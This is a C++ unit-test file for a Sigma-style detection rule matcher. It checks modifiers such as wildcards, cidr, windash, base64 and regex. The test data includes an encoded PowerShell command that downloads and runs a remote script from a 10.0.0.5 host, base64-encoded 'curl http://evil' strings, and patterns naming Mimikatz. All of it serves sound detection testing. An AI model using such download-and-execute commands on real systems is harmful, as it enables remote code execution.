// Value modifiers, one row per behaviour a detection engineer relies on (positive and negative).
#include "correlator/engine/matcher.h"

#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <vector>

#include "correlator/engine/field_registry.h"

namespace tripline::correlator::engine {
namespace {

using Values = std::vector<std::optional<std::string>>;

struct Case {
  std::string name;
  std::vector<std::string> modifiers;
  Values values;
  std::optional<std::string> field;  // std::nullopt = the field is absent
  bool want;
};

// Test names already say which case it is; keep gtest from dumping the object's bytes.
void PrintTo(const Case& c, std::ostream* os) { *os << c.name; }

ValueMatcher::RefResolver NoRefs() {
  return [](std::string_view name) { return FieldRegistry::Resolve(name); };
}

bool RunCase(const Case& c) {
  auto m = ValueMatcher::Compile(c.modifiers, c.values, NoRefs());
  EXPECT_TRUE(m.ok()) << c.name << ": " << m.status();
  if (!m.ok()) return !c.want;
  v1::Event event;
  MatchScratch scratch;
  FieldValue value;
  if (c.field) value = std::string_view(*c.field);
  return m->Matches(event, value, &scratch);
}

const std::string kEncodedDownload =
    "powershell.exe -nop -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBu"
    "AGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcA"
    "KQA=";

const Case kCases[] = {
    // Plain values: whole-value equality, case-insensitive.
    {"exact_ignores_case", {}, {"cmd.exe"}, "CMD.EXE", true},
    {"exact_is_whole_value", {}, {"cmd.exe"}, "cmd.exe2", false},
    {"cased_positive", {"cased"}, {"cmd.exe"}, "cmd.exe", true},
    {"cased_negative", {"cased"}, {"cmd.exe"}, "CMD.EXE", false},
    {"contains_positive", {"contains"}, {"whoami"}, "cmd /c WHOAMI /all", true},
    {"contains_negative", {"contains"}, {"whoami"}, "cmd /c hostname", false},
    {"startswith_positive", {"startswith"}, {"C:\\Windows\\"}, "c:\\windows\\x.exe", true},
    {"startswith_negative", {"startswith"}, {"C:\\Windows\\"}, "d:\\c:\\windows\\x", false},
    {"endswith_positive", {"endswith"}, {"\\w3wp.exe"}, "C:\\inetpub\\W3WP.EXE", true},
    {"endswith_negative", {"endswith"}, {"\\w3wp.exe"}, "C:\\w3wp.exe.bak", false},
    {"contains_cased_negative", {"contains", "cased"}, {"Mimikatz"}, "x mimikatz y", false},
    // Wildcards and escapes.
    // A wildcard right after a backslash needs the backslash escaped: `\\*` (Sigma spec).
    {"star_inside", {}, {"C:\\Windows\\\\*\\cmd.exe"}, "c:\\windows\\system32\\cmd.exe", true},
    {"star_inside_negative", {}, {"C:\\Windows\\\\*\\cmd.exe"}, "c:\\temp\\cmd.exe", false},
    {"backslash_star_is_literal_star", {}, {"C:\\Windows\\*"}, "c:\\windows*", true},
    {"star_after_word", {"contains"}, {"cmd*exe"}, "run cmd.exe now", true},
    {"question_one_char", {}, {"cm?.exe"}, "cmd.exe", true},
    {"question_exactly_one", {}, {"cm?.exe"}, "cmdd.exe", false},
    {"question_one_utf8_char", {}, {"caf?"}, "caf\xC3\xA9", true},
    {"escaped_star_is_literal", {}, {"a\\*b"}, "a*b", true},
    {"escaped_star_not_wildcard", {}, {"a\\*b"}, "axxb", false},
    {"escaped_question", {"contains"}, {"what\\?"}, "so what? now", true},
    {"escaped_question_negative", {"contains"}, {"what\\?"}, "so whatx now", false},
    {"backslash_before_letter_literal", {}, {"C:\\Windows\\"}, "c:\\windows\\", true},
    {"double_backslash_is_one", {"startswith"}, {"\\\\\\\\server"}, "\\\\server\\share", true},
    {"double_backslash_negative", {"startswith"}, {"\\\\\\\\server"}, "\\server", false},
    // Lists: OR, or AND with `all`.
    {"list_is_or", {"contains"}, {"alpha", "beta"}, "xx beta", true},
    {"list_or_none", {"contains"}, {"alpha", "beta"}, "gamma", false},
    {"all_needs_every", {"contains", "all"}, {"alpha", "beta"}, "xx beta", false},
    {"all_positive", {"contains", "all"}, {"alpha", "beta"}, "beta alpha", true},
    // null, empty and exists.
    {"null_matches_absent", {}, {std::nullopt}, std::nullopt, true},
    {"null_matches_empty", {}, {std::nullopt}, "", true},
    {"null_not_value", {}, {std::nullopt}, "x", false},
    {"empty_string_matches_empty", {}, {""}, "", true},
    {"empty_string_not_absent", {}, {""}, std::nullopt, false},
    {"value_never_matches_absent", {"contains"}, {"x"}, std::nullopt, false},
    {"exists_true_present", {"exists"}, {"true"}, "", true},
    {"exists_true_absent", {"exists"}, {"true"}, std::nullopt, false},
    {"exists_false_absent", {"exists"}, {"false"}, std::nullopt, true},
    {"exists_false_present", {"exists"}, {"false"}, "x", false},
    // cidr.
    {"cidr_v4_in", {"cidr"}, {"10.0.0.0/8"}, "10.20.30.40", true},
    {"cidr_v4_out", {"cidr"}, {"10.0.0.0/8"}, "11.0.0.1", false},
    {"cidr_v4_odd_prefix", {"cidr"}, {"192.168.4.0/22"}, "192.168.7.255", true},
    {"cidr_v4_odd_prefix_out", {"cidr"}, {"192.168.4.0/22"}, "192.168.8.0", false},
    {"cidr_v6_in", {"cidr"}, {"2001:db8::/32"}, "2001:db8:1::5", true},
    {"cidr_v6_out", {"cidr"}, {"2001:db8::/32"}, "2001:db9::5", false},
    {"cidr_v4_mapped_v6", {"cidr"}, {"10.0.0.0/8"}, "::ffff:10.1.1.1", true},
    {"cidr_v6_not_v4", {"cidr"}, {"::/0"}, "10.1.1.1", false},
    {"cidr_not_an_ip", {"cidr"}, {"10.0.0.0/8"}, "10.example", false},
    {"cidr_list_or", {"cidr"}, {"10.0.0.0/8", "fc00::/7"}, "fd00::1", true},
    // windash: flag dashes in every form.
    {"windash_slash", {"contains", "windash"}, {" -enc "}, "powershell /enc AAA", true},
    {"windash_en_dash", {"contains", "windash"}, {" -enc "}, "powershell \xE2\x80\x93" "enc A", true},
    {"windash_hyphen", {"contains", "windash"}, {" -enc "}, "powershell -ENC AAA", true},
    {"windash_negative", {"contains", "windash"}, {" -enc "}, "powershell enc AAA", false},
    {"windash_keeps_inner_dash", {"contains", "windash"}, {"a-b"}, "a/b", false},
    // Encodings.
    {"base64_contains", {"base64", "contains"}, {"cmd"}, "xxY21kyy", true},
    {"base64_is_cased", {"base64", "contains"}, {"cmd"}, "xxy21kyy", false},
    {"wide_base64", {"wide", "base64"}, {"cmd"}, "YwBtAGQA", true},
    {"utf16le_base64", {"utf16le", "base64"}, {"cmd"}, "YwBtAGQA", true},
    {"utf16be_base64", {"utf16be", "base64"}, {"cmd"}, "AGMAbQBk", true},
    {"utf16_bom_base64", {"utf16", "base64"}, {"cmd"}, "//5jAG0AZAA=", true},
    {"wide_base64offset_powershell", {"wide", "base64offset", "contains"}, {"Net.WebClient"},
     kEncodedDownload, true},
    {"wide_base64offset_negative", {"wide", "base64offset", "contains"}, {"Invoke-Mimikatz"},
     kEncodedDownload, false},
    {"base64offset_shift0", {"base64offset", "contains"}, {"http://"}, "Y3VybCBodHRwOi8vZXZpbA==",
     true},
    {"base64offset_shift1", {"base64offset", "contains"}, {"http://"}, "eGN1cmwgaHR0cDovL2V2aWw=",
     true},
    {"base64offset_shift2", {"base64offset", "contains"}, {"http://"}, "eHljdXJsIGh0dHA6Ly9ldmls",
     true},
    {"base64offset_negative", {"base64offset", "contains"}, {"https://"},
     "Y3VybCBodHRwOi8vZXZpbA==", false},
    // Regular expressions: case-sensitive unless `i`.
    {"re_search", {"re"}, {"ab+c"}, "xxabbbcyy", true},
    {"re_cased_by_default", {"re"}, {"ab+c"}, "ABBC", false},
    {"re_i", {"re", "i"}, {"ab+c"}, "ABBC", true},
    {"re_s_dot_newline", {"re", "s"}, {"a.b"}, "a\nb", true},
    {"re_dot_no_newline", {"re"}, {"a.b"}, "a\nb", false},
    {"re_m_line_anchor", {"re", "m"}, {"^b$"}, "a\nb", true},
    {"re_no_m", {"re"}, {"^b$"}, "a\nb", false},
    // Numbers.
    {"gt_positive", {"gt"}, {"5"}, "6", true},
    {"gt_equal_negative", {"gt"}, {"5"}, "5", false},
    {"gte_equal", {"gte"}, {"5"}, "5", true},
    {"lt_positive", {"lt"}, {"1000"}, "999", true},
    {"lt_negative", {"lt"}, {"1000"}, "1000", false},
    {"lte_equal", {"lte"}, {"1.5"}, "1.5", true},
    {"numeric_not_a_number", {"gt"}, {"5"}, "many", false},
    {"numeric_absent", {"gt"}, {"5"}, std::nullopt, false},
    // neq.
    {"neq_different", {"neq"}, {"SYSTEM"}, "alice", true},
    {"neq_same_any_case", {"neq"}, {"SYSTEM"}, "system", false},
    {"neq_absent", {"neq"}, {"SYSTEM"}, std::nullopt, false},
};

class MatcherTest : public ::testing::TestWithParam<Case> {};

TEST_P(MatcherTest, Matches) {
  const Case& c = GetParam();
  EXPECT_EQ(RunCase(c), c.want) << c.name;
}

INSTANTIATE_TEST_SUITE_P(Modifiers, MatcherTest, ::testing::ValuesIn(kCases),
                         [](const ::testing::TestParamInfo<Case>& p) { return p.param.name; });

struct ErrorCase {
  std::string name;
  std::vector<std::string> modifiers;
  Values values;
  std::string message;  // a substring of the error
};

const ErrorCase kErrors[] = {
    {"unknown", {"c"}, {"x"}, "unknown modifier 'c'"},
    {"expand", {"expand"}, {"%Servers%"}, "modifier 'expand' is not supported"},
    {"time", {"hour"}, {"3"}, "time modifier 'hour' is not supported yet"},
    {"two_types", {"contains", "startswith"}, {"x"}, "'contains' and 'startswith' cannot"},
    {"not_a_number", {"gt"}, {"abc"}, "'gt' needs a number, not 'abc'"},
    {"bad_regex", {"re"}, {"(?<=x)a"}, "invalid regular expression"},
    {"flag_without_re", {"i"}, {"x"}, "only valid after 're'"},
    {"bad_cidr", {"cidr"}, {"10.0.0.0/33"}, "bad prefix length"},
    {"exists_not_bool", {"exists"}, {"maybe"}, "'exists' takes a single true or false"},
    {"base64_wildcard", {"base64"}, {"a*b"}, "base64 cannot encode the wildcards"},
    {"re_and_contains", {"contains", "re"}, {"x"}, "cannot be combined with 're'"},
    {"null_with_re", {"re"}, {std::nullopt}, "null value cannot be used with 're'"},
};

TEST(MatcherErrorTest, RejectsWithReason) {
  for (const ErrorCase& c : kErrors) {
    auto m = ValueMatcher::Compile(c.modifiers, c.values, NoRefs());
    ASSERT_FALSE(m.ok()) << c.name;
    EXPECT_NE(std::string(m.status().message()).find(c.message), std::string::npos)
        << c.name << ": " << m.status().message();
  }
}

TEST(MatcherTest, FieldRefComparesTwoFieldsOfTheEvent) {
  v1::Event event;
  event.mutable_process()->mutable_process()->set_executable("C:\\Temp\\Evil.exe");
  event.mutable_process()->mutable_parent()->set_executable("c:\\temp\\evil.exe");
  auto m = ValueMatcher::Compile({"fieldref"}, {"process.executable"}, NoRefs());
  ASSERT_TRUE(m.ok()) << m.status();
  MatchScratch scratch;
  EXPECT_TRUE(m->Matches(event, std::string_view("c:\\temp\\evil.exe"), &scratch));
  EXPECT_FALSE(m->Matches(event, std::string_view("c:\\windows\\evil.exe"), &scratch));
  auto prefix = ValueMatcher::Compile({"fieldref", "startswith"}, {"process.executable"},
                                      NoRefs());
  ASSERT_TRUE(prefix.ok());
  EXPECT_TRUE(prefix->Matches(event, std::string_view("C:\\TEMP\\EVIL.EXE --flag"), &scratch));
  // Two fields the record leaves empty are not equal (a garbled Sysmon 26 once matched
  // "TargetFilename equals Image" this way).
  v1::Event empty;
  empty.mutable_process();
  EXPECT_FALSE(m->Matches(empty, std::string_view(""), &scratch));
  EXPECT_FALSE(m->Matches(event, std::string_view(""), &scratch));
  auto unknown = ValueMatcher::Compile({"fieldref"}, {"NoSuchField"}, NoRefs());
  EXPECT_FALSE(unknown.ok());
}

TEST(MatcherTest, WindashExplosionIsBounded) {
  auto m = ValueMatcher::Compile({"windash"}, {" -a -b -c -d -e -f -g"}, NoRefs());
  ASSERT_FALSE(m.ok());
  EXPECT_NE(std::string(m.status().message()).find("windash expands"), std::string::npos);
}

}  // namespace
}  // namespace tripline::correlator::engine
